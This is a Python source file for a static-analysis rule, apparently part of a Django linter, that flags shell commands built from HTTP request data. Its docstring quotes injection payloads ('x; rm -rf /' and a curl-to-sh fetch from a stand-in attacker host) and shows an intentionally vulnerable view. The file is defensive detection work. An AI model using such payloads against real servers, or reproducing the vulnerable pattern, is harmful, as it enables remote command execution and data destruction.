"""DJE411 command-injection

## What it does
Finds shell commands built from data the HTTP client sent: `os.system()`, `os.popen()`,
`subprocess.getoutput()`, `asyncio.create_subprocess_shell()`, and `subprocess.run()` /
`call()` / `check_output()` / `Popen()` with `shell=True`, whose command comes from
`request.GET`/`POST`/`data`/..., a URL parameter of the view or a local variable holding
one of those (also a program name taken from the request without a shell).

## Why is this bad?
The shell reads the whole string as a command line: a value such as `x; rm -rf /` or
`$(curl evil.example | sh)` runs the attacker's own commands on the server with the web
server's rights. Quoting by hand is easy to get wrong.

## Example
```python
def thumbnail(request):
    name = request.GET["file"]
    subprocess.run(f"convert {name} -resize 200 thumb.png", shell=True)
```

## Use instead
```python
def thumbnail(request):
    name = request.GET["file"]
    subprocess.run(["convert", name, "-resize", "200", "thumb.png"], check=True)
```
Pass a list of arguments without a shell (and validate `name` against what is allowed);
if a shell is unavoidable, quote every value with `shlex.quote()`.

## References
- https://docs.python.org/3/library/subprocess.html#security-considerations
- https://owasp.org/www-community/attacks/Command_Injection
"""

from __future__ import annotations

import ast

from django_expert.analyzers.facts.calls import call_index
from django_expert.analyzers.facts.names import Names, argument, keyword
from django_expert.analyzers.facts.taint import Taint, definitions
from django_expert.analyzers.rules.registry import rule

SHELL = {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
         "asyncio.create_subprocess_shell", "commands.getoutput"}
SUBPROCESS = {"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
              "subprocess.Popen"}


@rule("DJE411", "command-injection", triggers=("subprocess", "os.system", "popen", "system(", "shell"))
def check(ctx):
    names = Names(ctx.facts, ctx.tree)
    for scope in call_index(ctx.tree).functions():
        function, owner = scope.function, scope.owner
        sinks = [(call, command) for call in scope.calls
                 for command in [_command(names, call)] if command is not None]
        if not sinks:
            continue
        taint = Taint(function, names.qualify, owner, module=ctx.module)
        for call, command in sinks:
            if not any(taint.untrusted(v) for v in [command, *definitions(taint, command)]):
                continue
            yield ctx.report(
                call,
                f"`{names.call(call)}` runs a command built from request data in `{function.name}`: a client can "
                f"run its own commands on the server; pass a list of arguments without a shell",
            )


def _command(names: Names, call: ast.Call) -> ast.expr | None:
    """What the shell (or the OS) will run, for the calls that run commands."""
    name = names.call(call)
    if name in SHELL:
        return argument(call, 0, "cmd")
    if name not in SUBPROCESS:
        return None
    command = argument(call, 0, "args")
    shell = keyword(call, "shell")
    if isinstance(shell, ast.Constant) and shell.value is True:
        return command
    if isinstance(command, (ast.List, ast.Tuple)) and command.elts and not isinstance(command.elts[0], ast.Starred):
        return command.elts[0]  # without a shell only the program name is dangerous
    return None
